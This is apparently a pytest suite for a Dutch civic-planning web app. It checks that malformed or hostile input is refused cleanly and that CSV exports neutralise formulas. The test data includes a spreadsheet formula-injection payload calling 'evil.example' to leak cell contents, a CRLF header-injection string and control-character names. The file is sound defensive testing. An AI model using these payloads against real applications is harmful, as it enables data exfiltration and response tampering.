"""Input an attacker (or an unlucky paste) sends: every one gets a clear 400, 404, 409 or 422, never
a 500, and nothing that would break a file someone downloads later gets stored."""

import csv
import io

import pytest

from app.organisations.models import Role
from tests import factories

HUGE = str(2**31)


@pytest.mark.parametrize(
    "url",
    [
        f"/cycli/{HUGE}",
        f"/resultaten/{HUGE}/bewerken",
        f"/api/v2/cycli/{HUGE}",
        f"/api/v2/stappen/{HUGE}",
        f"/api/v2/cycli/{HUGE}/ambitie",
        "/api/v2/cycli/99999999999999999999999999/resultaten",
    ],
)
def test_ids_beyond_what_the_database_stores_are_not_found(client, url):
    assert client.get(url).status_code in (400, 404)


def test_ids_beyond_64_bits_in_a_body_are_explained(client, session, organisation):
    cycle = factories.make_cycle(session, organisation)
    response = client.post(
        f"/api/v2/cycli/{cycle.id}/activiteiten", json={"naam": "Maatjes", "partnerId": 2**63}
    )
    assert response.status_code == 400
    form = client.post(
        f"/cycli/{cycle.id}/activiteiten",
        data={"name": "Maatjes", "status": "new", "partner_id": HUGE},
    )
    assert form.status_code == 422 and "bestaat niet" in form.text
    assert 'value="Maatjes"' in form.text


@pytest.mark.parametrize("older", ["²", "9" * 20, "-1", "abc"])
def test_paging_the_changes_with_nonsense_is_explained(client, session, organisation, older):
    cycle = factories.make_cycle(session, organisation)
    for url in (f"/themas/{cycle.theme_id}/wijzigingen", "/wijzigingen"):
        assert client.get(url, params={"ouder-dan": older}).status_code == 422


def test_the_same_term_with_letters_beyond_ascii_is_refused_the_second_time(
    client, session, organisation
):
    cycle = factories.make_cycle(session, organisation)
    url = f"/cycli/{cycle.id}/begrippen"
    assert client.post(url, data={"term": "Ærø-begrip"}, follow_redirects=False).status_code == 303
    again = client.post(url, data={"term": "ærø-BEGRIP "})
    assert again.status_code == 409 and "staat al in de lijst" in again.text


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("   ", "Vul dit veld in."),
        ("Jeugd\r\nSet-Cookie: x=1", "regeleinden"),
        ("Jeugd\x00", "onzichtbare tekens"),
        ("Jeugd\u202egnip", "onzichtbare tekens"),
    ],
)
def test_names_of_only_spaces_or_with_control_characters_are_refused(client, name, message):
    form = client.post("/themas", data={"name": name})
    assert form.status_code == 422 and message in form.text
    api = client.post("/api/v2/themas", json={"naam": name})
    assert api.status_code == 400


def test_a_theme_with_any_name_can_export_its_changes(client, session, organisation):
    theme = client.post("/api/v2/themas", json={"naam": "Jeugd 🚀 en gezin"}).json()
    response = client.get(f"/themas/{theme['id']}/wijzigingen.csv")
    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert "filename*=UTF-8''wijzigingen-jeugd%20%F0%9F%9A%80%20en%20gezin.csv" in disposition
    assert 'filename="wijzigingen-jeugd-en-gezin.csv"' in disposition


def test_formulas_in_exports_stay_text(client_as, session, organisation):
    cycle = factories.make_cycle(session, organisation)
    de_kern = factories.make_partner(session, organisation, "De Kern")
    activity = factories.make_activity(session, cycle, name="Maatjes", partner=de_kern)
    partner = client_as(Role.PARTNER, partner=de_kern)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    renamed = partner.post(
        f"/activiteiten/{activity.id}",
        data={"name": evil, "status": "new", "partner_id": str(de_kern.id), "_versie": "1"},
    )
    assert renamed.status_code == 200
    admin = client_as(Role.ADMIN)
    rows = list(
        csv.reader(
            io.StringIO(admin.get(f"/themas/{cycle.theme_id}/wijzigingen.csv").text), delimiter=";"
        )
    )
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(cell == "'" + evil for cell in cells)


# Numbers in the names of form fields (keuze-12) and in fields the record cycle does not read:
# "²" is a digit to str.isdigit() but no number to int(), and a huge one names no record.
ODD_NUMBERS = ["²", "٣", "9" * 30, "0", "-1"]


@pytest.mark.parametrize("number", ODD_NUMBERS)
def test_odd_numbers_in_the_names_of_form_fields_are_not_a_server_error(
    client, session, organisation, number
):
    cycle = factories.make_cycle(session, organisation)
    factories.make_activity(session, cycle)
    scenario = factories.make_scenario(session, organisation, cycle)
    live = factories.make_live_session(session, cycle)
    round_ = factories.make_round(session, live, "dots")
    posts = [
        ("/organisatie", {"organisation_id": number}),
        (f"/scenarios/{scenario.id}/keuzes", {f"keuze-{number}": "stop", "_versie": number}),
        (
            f"/scenarios/{scenario.id}/vaststellen",
            {"rationale": "X", "bevestigd": "1", f"versterken-{number}": "1"},
        ),
        (f"/rondes/{round_.id}/overnemen", {f"keuze-{number}": "1"}),
        (f"/rondes/{round_.id}/papier", {"perspectief": "resident", f"stippen-{number}": "1"}),
    ]
    for url, data in posts:
        response = client.post(url, data=data, follow_redirects=False)
        assert response.status_code < 500, (url, response.text[-1000:])
    api = client.put(
        f"/api/v2/scenarios/{scenario.id}/keuzes",
        json={"keuzes": {number: None}},
        headers={"If-Match": "*"},
    )
    assert api.status_code in (400, 404), api.text


def test_a_result_code_with_a_digit_that_is_no_number_does_not_stop_the_next_result(
    client, session, organisation
):
    cycle = factories.make_cycle(session, organisation)
    for code in ("W²", "W" + "9" * 9):
        response = client.post(
            f"/cycli/{cycle.id}/resultaten", data={"code": code, "text": f"Resultaat {code}"}
        )
        assert response.status_code in (200, 303), response.text[-1000:]
    numbered = client.post(f"/cycli/{cycle.id}/resultaten", data={"text": "Zonder code"})
    assert numbered.status_code in (200, 303), numbered.text[-1000:]


@pytest.mark.parametrize("huge", [str(2**31), str(2**63), "9" * 30, "²"])
def test_ids_in_form_fields_and_files_that_cannot_exist_are_explained(
    client, session, organisation, huge
):
    from app.sessions import running
    from app.sessions.models import Target

    cycle = factories.make_cycle(session, organisation)
    live = factories.make_live_session(session, cycle)
    round_ = factories.make_round(session, live, "dots", target=Target.RESULTS)
    running.add_item(session, round_, "Keuze")
    running.start_round(session, round_)
    tally = client.post(
        f"/rondes/{round_.id}/papier", data={"perspectief": "resident", f"stippen-{huge}": "1"}
    )
    assert tally.status_code == 422, tally.text
    round_ = session.get(type(round_), round_.id)  # the request's session let go of it
    running.close_round(session, round_)
    adopt = client.post(f"/rondes/{round_.id}/overnemen", data={f"keuze-{huge}": "on"})
    assert adopt.status_code == 422 and "Kies minstens één" in adopt.text
    merge = client.post(
        f"/voorstellen/{running.items_of(session, round_)[0].id}/samenvoegen",
        data={"met": huge},
    )
    assert merge.status_code in (404, 422), merge.text

    scenario = factories.make_scenario(session, organisation, cycle)
    choices = client.post(
        f"/scenarios/{scenario.id}/keuzes",
        data={f"keuze-{huge}": "keep", "_versie": str(scenario.version)},
    )
    assert choices.status_code == 422, choices.text
    if huge.isascii():
        api = client.put(
            f"/api/v2/scenarios/{scenario.id}/keuzes",
            json={"keuzes": {huge: "behouden"}},
            headers={"If-Match": "*"},
        )
        assert api.status_code == 400, api.text
    for path, text in (
        (
            "/bestedingen/importeren",
            f"activiteitnummer;activiteit;thema;cyclus;jaar;begroot;werkelijk\n{huge};x;y;z;2024;1;1\n",
        ),
        (
            "/metingen/importeren",
            f"indicatornummer;indicator;datum;waarde;verhaal\n{huge};x;01-01-2024;1;\n",
        ),
    ):
        upload = client.post(path, files={"bestand": ("a.csv", text.encode(), "text/csv")})
        assert upload.status_code == 422, (path, upload.text)
        assert "Er is niets opgeslagen" in upload.text


def test_tokens_with_letters_beyond_ascii_are_refused_not_a_server_error(
    client, anonymous, session, organisation
):
    """A CSRF token or SSO state is compared in constant time; letters beyond ASCII in one
    an attacker sends are refused like any wrong token."""
    refused = client.post(
        "/partners",
        data={"name": "De Kern", "partner_type": "provider"},
        headers={"X-CSRF-Token": "é".encode()},
    )
    assert refused.status_code == 403 and "niets opgeslagen" in refused.text
    anonymous.get("/inloggen")  # the pre-session's cookie
    sign_in = anonymous.post(
        "/inloggen", data={"email": "a@kampen.example.org", "password": "x", "_csrf": "é"}
    )
    assert sign_in.status_code == 403
    anonymous.cookies.set("kompas_sso", "een-state", path="/inloggen/sso")
    callback = anonymous.get("/inloggen/sso/terug?state=%C3%A9-en-meer&code=x")
    assert callback.status_code == 403 and "Begin opnieuw met inloggen" in callback.text
